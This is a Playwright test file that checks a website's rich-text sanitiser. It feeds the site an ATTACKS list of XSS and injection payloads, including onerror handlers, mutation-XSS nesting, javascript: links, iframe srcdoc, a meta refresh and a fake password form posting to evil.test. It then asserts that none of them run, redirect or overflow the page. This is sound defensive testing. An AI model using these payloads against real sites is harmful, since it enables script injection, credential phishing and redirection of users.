import type { Page } from '@playwright/test';
import { articlePath, campaignPath, paths, policyPath } from '#shared/paths.ts';
import { audit } from './support/audit.ts';
import { overflow, seeAll } from './support/page-checks.ts';
import { type PrivateSite, startPrivateSite } from './support/private-site.ts';
import { alive, expect, test } from './support/test.ts';

const PICTURE = '/media/port-nagasaki-3x2_1600x1067_2d4764_6c07c1/1600.webp';
const WIDE_ROW = Array.from({ length: 30 }, (_, index) => `<td style="min-width:100px">第${index}列的内容</td>`).join('');

/** Markup that would run code, send requests, cover the page or lead away; where it can, it leaves a mark on the window. */
const ATTACKS = [
	'<script>window.hit = "script"</script>',
	'<img src="x" onerror="window.hit = 1"><svg onload="window.hit = 2"><script>window.hit = 3</script></svg>',
	'<math><mtext><table><mglyph><style><img src=x onerror="window.hit = 4"></style></mglyph></table></mtext></math>',
	'<noscript><p title="</noscript><img src=x onerror=window.hit=5>"></noscript>',
	'<iframe src="https://evil.test/frame" onload="window.hit = 6"></iframe><iframe srcdoc="<script>parent.hit = 7</script>"></iframe>',
	'<video src="https://evil.test/film.mp4" autoplay onerror="window.hit = 8"></video><audio src="https://evil.test/a.mp3" autoplay></audio>',
	'<object data="https://evil.test/o"></object><embed src="https://evil.test/e"><link rel="stylesheet" href="https://evil.test/s.css">',
	'<style>body { display: none } @import "https://evil.test/i.css";</style><base href="https://evil.test/">',
	'<meta http-equiv="refresh" content="0;url=https://evil.test/away">',
	'<form action="https://evil.test/form"><input name="password" autofocus onfocus="window.hit = 9"><button>登录</button></form>',
	'<a id="attack" href="javascript:window.hit = 10">按我</a><a href="&#106;avascript:window.hit=11">按我</a>',
	'<p style="position:fixed;inset:0;background:url(https://evil.test/b.png)" onmouseover="window.hit = 12">盖住整页</p>',
	'<div id="data" class="fixed inset-0" data-alive="">不是数据</div><details open ontoggle="window.hit = 13">x</details>',
].join('');

const HOSTILE = `<h1>另一个标题</h1><p>正文开始。</p>${ATTACKS}
	<h5>表格</h5><table style="width:3000px"><caption>很宽的表格</caption><tr>${WIDE_ROW}</tr></table>
	<p><img src="${PICTURE}" width="12000" height="9000" style="width:12000px"><img src="${PICTURE}?more" width="9999" height="7777"></p>
	<p>${'没有空格'.repeat(500)}${'abcdefghij'.repeat(400)}</p><pre>${'x'.repeat(3000)}</pre>
	<p><a id="away" href="https://other.test/">别处</a> <a href="${paths.destinations}">目的地</a></p>
	<video><source src="/media/film/dusk.mp4" type="video/mp4"></video><p>正文结束。</p>`;

let site: PrivateSite;
// In one worker the site is started once.
test.describe.configure({ mode: 'default' });
test.beforeAll(async () => {
	site = await startPrivateSite();
	await site.richTexts(HOSTILE);
});
test.afterAll(() => site.stop());

const PAGES = [
	articlePath({ id: '1001' }),
	articlePath({ id: '2001' }),
	campaignPath('winter-south'),
	policyPath('PRIVACY'),
	paths.campaigns,
	paths.news,
];

const openPage = async (page: Page, path: string): Promise<void> => {
	await page.goto(site.url + path);
	await alive(page);
	await seeAll(page);
};

const hit = (page: Page) => page.evaluate(() => (window as { hit?: unknown }).hit);

test('nothing of a hostile rich text takes effect (T57)', async ({ page }) => {
	for (const path of PAGES) {
		await openPage(page, path);
		const stayed = page.url().replace(/[?&]update=\d+$/, '');
		expect([path, await hit(page), stayed]).toEqual([path, undefined, site.url + path]);
		await expect(page.getByRole('heading', { level: 1 })).toHaveCount(1);
		await expect(
			page.locator('main :is(iframe, object, embed, form, style, script:not([type$=json]), [style*=fixed], video, audio)'),
		).toHaveCount(0);
		for (const width of [1440, 768, 390, 320]) {
			await page.setViewportSize({ width, height: 844 });
			expect([path, width, await overflow(page)]).toEqual([path, width, []]);
		}
		await page.setViewportSize({ width: 1440, height: 900 });
	}
});

test('a hostile text can still be read', async ({ page }) => {
	await openPage(page, articlePath({ id: '1001' }));
	const text = page.getByRole('article').first();
	await expect(text.getByText('正文开始。')).toBeVisible();
	await expect(text.getByText('正文结束。')).toBeVisible();
	await expect(text.getByRole('heading', { name: '表格' })).toHaveJSProperty('tagName', 'H3');
	const widths = await text.locator('img').evaluateAll((images) => images.map((image) => image.getBoundingClientRect().width));
	expect(widths.length).toBeGreaterThan(1);
	expect(Math.max(...widths)).toBeLessThanOrEqual(750);
	const region = text.getByRole('region', { name: '很宽的表格' });
	await region.focus();
	await page.keyboard.press('ArrowRight');
	await expect.poll(() => region.evaluate(({ scrollLeft }) => scrollLeft)).toBeGreaterThan(0);
});

test('links and films of a text ask other sites for nothing but on a press', async ({ page }) => {
	await openPage(page, articlePath({ id: '1001' }));
	const text = page.getByRole('article').first();
	await expect(text.getByRole('link', { name: '别处' })).toHaveAttribute('rel', 'noopener nofollow');
	for (const link of await text.getByText('按我').all()) await expect(link).not.toHaveAttribute('href');
	const film = text.getByRole('link', { name: '播放影片' });
	await film.click();
	await expect(text.locator('video')).toBeFocused();
	await page.evaluate(() => Object.assign(window, { same: true }));
	await text.getByRole('link', { name: '目的地' }).click();
	await expect(page).toHaveURL(site.url + paths.destinations);
	expect(await page.evaluate(() => (window as { same?: boolean }).same)).toBe(true);
	expect(await hit(page)).toBeUndefined();
});

test.describe('with pop-ups', () => {
	test.use({ popups: true });
	test('a hostile pop-up of home does nothing either', async ({ page, t }) => {
		await page.clock.install({ time: new Date().setHours(12, 0, 0, 0) });
		const dialog = page.getByRole('dialog');
		const text = dialog.getByText('正文开始。');
		await page.goto(`${site.url}/`);
		await alive(page);
		await expect(async () => {
			await page.clock.runFor(5_000);
			await expect(dialog).toBeVisible({ timeout: 500 });
		}).toPass();
		// The first of the set is an advert.
		await dialog.getByRole('button', { name: t('popups:next') }).click();
		await expect(text).toBeVisible();
		expect(await hit(page)).toBeUndefined();
		// The order of headings within it is the hostile text's own.
		expect((await audit(page, dialog)).filter((fault) => !fault.startsWith('heading-order'))).toEqual([]);
		expect(await overflow(page)).toEqual([]);
		const box = await dialog.boundingBox();
		expect((box?.x ?? 0) + (box?.width ?? 0)).toBeLessThanOrEqual(1440);
	});
});
